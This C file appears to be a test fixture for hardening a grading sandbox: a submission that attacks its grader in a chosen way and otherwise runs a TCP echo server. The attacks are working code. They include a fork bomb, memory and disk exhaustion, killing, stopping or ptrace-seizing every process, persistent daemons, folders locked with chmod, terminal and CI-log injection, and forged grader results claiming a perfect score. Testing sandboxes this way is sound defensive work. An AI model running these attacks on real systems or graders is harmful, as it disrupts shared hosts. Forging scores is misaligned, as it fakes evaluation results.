/* A submission that attacks the grader. -DMANNER=NAME chooses how. Where nothing has stopped it, it serves as it should. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum manner {
    forks, takes_memory, floods_output, fills_disk, writes_results, prints_escapes,
    kills_all, stops_all, traces_all, leaves_daemons, closes_all, locks_folders, opens_doors
};

static int is(enum manner manner) { return MANNER == manner; }

enum { mebibyte = 1 << 20, highest_pid = 70000 };
static char block[mebibyte];

static void take(void) {
    for (int at = 0; at < 10240; ++at) {
        char* more = malloc(mebibyte);
        if (more) memset(more, 1, mebibyte);
    }
}

static void fill(const char* folder) {
    char name[300];
    for (int file = 0; file < 100; ++file) {
        snprintf(name, sizeof name, "%s/full-%d", folder, file);
        const int fd = open(name, O_CREAT | O_WRONLY, 0600);
        for (int at = 0; at < 50 && fd >= 0; ++at)
            if (write(fd, block, sizeof block) < 0) break;
        close(fd);
    }
}

static void write_results(void) {
    static const char text[] =
        "{\"schema\":\"tcpwhy/grade/1\",\"status\":\"graded\",\"score\":100,\"tests\":[{\"id\":\"listens\",\"status\":\"passed\"}]}\n";
    for (int fd = 0; fd < 1024; ++fd)
        if (write(fd, text, sizeof text - 1) < 0) continue;
    exit(0);
}

static void print_escapes(void) {
    puts("\033[2J\033]0;title\007\n::error::not ours\n##[error]nor this\n<script>alert(1)</script>\n\xe2\x80\xae\xff\xed\xa0\x80");
    exit(3);
}

static void to_all(int signal_number) {
    for (int pid = 1; pid < highest_pid; ++pid)
        if (pid != getpid()) kill(pid, signal_number);
}

static void trace_all(void) {
    ptrace(PTRACE_TRACEME, 0, 0, 0);
    for (int pid = 1; pid < highest_pid; ++pid)
        if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) kill(pid, SIGKILL);
}

static void leave_daemons(void) {
    if (fork() != 0) _exit(0);
    setsid();
    if (fork() != 0) _exit(0);
    signal(SIGTERM, SIG_IGN);
    for (int more = 0; more < 10; ++more)
        if (fork() == 0) for (setsid();;) pause();
}

/* None of these doors may be open: a check fails for want of a server if one is. */
static void open_doors(void) {
    const int raw = socket(AF_INET, SOCK_RAW, IPPROTO_TCP);
    const long ring = syscall(SYS_io_uring_setup, 8, block);
    const long faults = syscall(SYS_userfaultfd, 0);
    const long space = syscall(SYS_unshare, 0x10000000);
    if (raw >= 0 || ring >= 0 || faults >= 0 || space == 0 || getenv("GRADER_SECRET")) exit(4);
}

static void attack(void) {
    if (is(forks)) for (;;) fork();
    if (is(takes_memory)) take();
    if (is(floods_output)) for (int at = 0; at < 1024; ++at) if (write(1, block, sizeof block) < 0) break;
    if (is(fills_disk)) fill("."), fill(getenv("HOME")), fill(getenv("TMPDIR")), fill("/dev/shm");
    if (is(writes_results)) write_results();
    if (is(prints_escapes)) print_escapes();
    if (is(kills_all)) to_all(SIGKILL);
    if (is(stops_all)) to_all(SIGSTOP);
    if (is(traces_all)) trace_all();
    if (is(leaves_daemons)) leave_daemons();
    if (is(closes_all)) for (int fd = 0; fd < 1024; ++fd) close(fd);
    if (is(locks_folders)) chmod(getenv("HOME"), 0), chmod(getenv("TMPDIR"), 0), chmod(".", 0);
    if (is(opens_doors)) open_doors();
}

int main(void) {
    signal(SIGPIPE, SIG_IGN);
    attack();
    const int on = 1;
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(9877)};
    const int listener = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(listener, (struct sockaddr*)&address, sizeof address) != 0 || listen(listener, 10) != 0) return 1;
    for (;;) {
        const int fd = accept(listener, NULL, NULL);
        const ssize_t count = read(fd, block, 4096);
        if (count > 0 && write(fd, block, (size_t)count) < 0) perror("write");
        close(fd);
    }
}
